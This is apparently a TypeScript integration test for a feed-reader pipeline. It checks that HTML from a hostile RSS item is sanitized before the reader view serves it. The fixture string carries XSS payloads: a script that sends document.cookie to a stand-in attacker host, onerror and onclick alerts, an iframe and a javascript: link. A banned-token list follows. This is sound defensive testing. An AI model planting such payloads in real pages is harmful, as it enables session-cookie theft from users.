import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { makeItem, rssFeed, seedPipeline, startFeedServer } from '../helpers/pipeline-factories.js';
import type { HttpPeer } from '../peers/http-peer.js';

/** A feed item as a hostile publisher would write it: its description is HTML with active content. */
const HOSTILE_DESCRIPTION =
  '<p>Results <img src="https://cdn.example.org/fig.png" onerror="alert(1)" alt="fig"></p>' +
  '<script>document.location="https://evil.example.org/?c="+document.cookie</script>' +
  '<iframe src="https://evil.example.org/frame"></iframe><ul><li>kept list</li></ul>' +
  '<a href="javascript:alert(2)" onclick="alert(3)">click</a>';

describe('a hostile feed through the pipeline to the reader view', () => {
  let t: TestApp;
  let feeds: HttpPeer;
  const item = makeItem({ summary: HOSTILE_DESCRIPTION, title: 'Hostile item from a feed' });

  beforeAll(async () => {
    feeds = await startFeedServer({ '/hostile.xml': rssFeed([item]) });
    t = await buildTestApp();
    const admin = await t.login('admin');
    await seedPipeline(t.app, admin.headers, {
      sources: [{ name: 'Hostile', url: `${feeds.url}/hostile.xml` }],
    });
    const run = await t.container.services.scraper.runNow('test');
    expect(run.error).toBeNull();
  });
  afterAll(async () => {
    await t?.close();
    await feeds?.stop();
  });

  it('serves the description with its image and list and without script, onerror or iframe', async () => {
    const list = await t.app.inject({
      method: 'GET',
      url: `/articles?q=${encodeURIComponent('Hostile item')}`,
    });
    const [found] = list.json<{ items: { id: string; title: string }[] }>().items;
    expect(found?.title).toBe('Hostile item from a feed');
    const detail = (await t.app.inject({ method: 'GET', url: `/articles/${found!.id}` })).json<{
      content_html: string;
      summary: string;
    }>();
    const html = detail.content_html;
    expect(html).toMatch(/<img alt="fig" src="https:\/\/cdn\.example\.org\/fig\.png"/);
    expect(html).toContain('<li>kept list</li>');
    for (const banned of ['<script', 'onerror', 'onclick', '<iframe', 'javascript:', 'document.cookie'])
      expect(html, banned).not.toContain(banned);
    // the offline summary is plain text: no markup, no entities
    expect(detail.summary).not.toMatch(/<|&[a-z#0-9]+;/i);
  });
});
